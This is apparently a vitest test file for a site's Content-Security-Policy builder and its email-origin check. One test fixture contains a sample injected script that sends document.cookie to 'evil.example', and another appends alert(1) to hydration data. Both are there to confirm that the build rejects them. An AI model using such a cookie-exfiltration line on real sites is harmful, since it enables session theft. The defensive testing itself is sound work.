import { readFileSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { emailOrigin, inlineScriptHashes, securityPolicy, sha256 } from './securityHeaders.ts';

describe('inlineScriptHashes', () => {
  it('hashes the inline scripts a browser runs', () => {
    const html = '<script>window.a = 1</script><script type="module">import "/x.js"</script><script type="text/javascript">b()</script>';
    expect(inlineScriptHashes(html)).toEqual([sha256('window.a = 1'), sha256('import "/x.js"'), sha256('b()')]);
  });

  it('leaves out data blocks and external scripts, which script-src does not govern', () => {
    const html =
      '<script type="application/ld+json">{"@type":"Organization"}</script>' +
      '<script type="application/json" data-page-data="posts/a">{"title":"A"}</script>' +
      '<script type="module" async="" src="/assets/app.js"></script>';
    expect(inlineScriptHashes(html)).toEqual([]);
  });
});

/** The inline scripts a page holds: the page template's own, and the two the pre-renderer writes. */
const TEMPLATE_SCRIPT = /<script>([\s\S]*?)<\/script>/.exec(readFileSync('index.html', 'utf8'))![1]!;
const BUILD_HASH = "window.__VITE_REACT_SSG_HASH__ = 's2j4bgzilr'";
const hydrationData = (data: string) => `window.__staticRouterHydrationData = JSON.parse(${JSON.stringify(data)});`;
const page = (...scripts: string[]) =>
  `<!doctype html><html><head><title>t</title></head><body>${scripts.map((script) => `<script>${script}</script>`).join('')}</body></html>`;

describe('securityPolicy', () => {
  it("puts each page's own inline script hashes into its meta policy, and all of them into _headers", async () => {
    const policy = securityPolicy('/preview/');
    const first = policy.apply(page(TEMPLATE_SCRIPT));
    const second = policy.apply(page(BUILD_HASH));
    expect(first).toMatch(/^<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="[^"]*'sha256-/);
    expect(first).toContain(sha256(TEMPLATE_SCRIPT));
    expect(first).not.toContain(sha256(BUILD_HASH));
    expect(second).toContain(sha256(BUILD_HASH));

    const outDir = await mkdtemp(path.join(tmpdir(), 'itah-policy-'));
    onTestFinished(() => rm(outDir, { recursive: true, force: true }));
    expect(await policy.writeHostFiles(outDir)).toEqual({ pages: 2, hashes: 2 });
    const headers = await readFile(path.join(outDir, '_headers'), 'utf8');
    expect(headers).toMatch(/^\/preview\/\*\n {2}Content-Security-Policy: /);
    expect(headers).toContain(sha256(TEMPLATE_SCRIPT));
    expect(headers).toContain(sha256(BUILD_HASH));
    expect(await readFile(path.join(outDir, '_redirects'), 'utf8')).toBe('/preview/blog/page/1 /preview/blog 301\n');
  });

  it('lets no script run from the files of public/ that a host serves as they are', async () => {
    const policy = securityPolicy('/preview/');
    const outDir = await mkdtemp(path.join(tmpdir(), 'itah-policy-'));
    onTestFinished(() => rm(outDir, { recursive: true, force: true }));
    await policy.writeHostFiles(outDir);
    const headers = await readFile(path.join(outDir, '_headers'), 'utf8');
    for (const folder of ['images', 'media']) {
      expect(headers).toContain(`/preview/${folder}/*\n  Content-Security-Policy: script-src 'none'; sandbox\n`);
    }
  });

  it.each([
    ['a script of unknown origin', page(TEMPLATE_SCRIPT, 'fetch("https://evil.example/" + document.cookie)')],
    ['hydration data that runs code', page(`${hydrationData('{}')}alert(1);`)],
  ])('fails the build on a page with %s, rather than allowing it by hash', (_label, html) => {
    expect(() => securityPolicy('/').apply(html)).toThrow(/an inline script the policy does not expect: /);
  });

  it('fails the build when the expected scripts differ from page to page, which would grow the policy with every page', async () => {
    const policy = securityPolicy('/');
    policy.apply(page(TEMPLATE_SCRIPT, BUILD_HASH, hydrationData('{"loaderData":{}}')));
    policy.apply(page(TEMPLATE_SCRIPT, BUILD_HASH, hydrationData('{"loaderData":{"0":1}}')));
    await expect(policy.writeHostFiles(tmpdir())).rejects.toThrow(/4 inline scripts where 3 are expected/);
  });
});

describe('emailOrigin', () => {
  it.each([
    ['https://api.emailjs.com', 'https://api.emailjs.com'],
    ['https://api.emailjs.com/api/v1.0', 'https://api.emailjs.com'],
    ['http://127.0.0.1:47500', 'http://127.0.0.1:47500'],
    ['http://localhost:8080', 'http://localhost:8080'],
    ['http://[::1]:9000', 'http://[::1]:9000'],
  ])('lets the site send messages to %s', (url, origin) => {
    expect(emailOrigin(url)).toBe(origin);
  });

  it.each([['http://api.emailjs.com'], ['http://10.0.0.5'], ['http://127.0.0.1.evil.example']])(
    'refuses %s, over which messages would cross the network unencrypted',
    (url) => {
      expect(() => emailOrigin(url)).toThrow(`VITE_EMAILJS_ORIGIN ${url} must be an https:// address`);
    },
  );
});
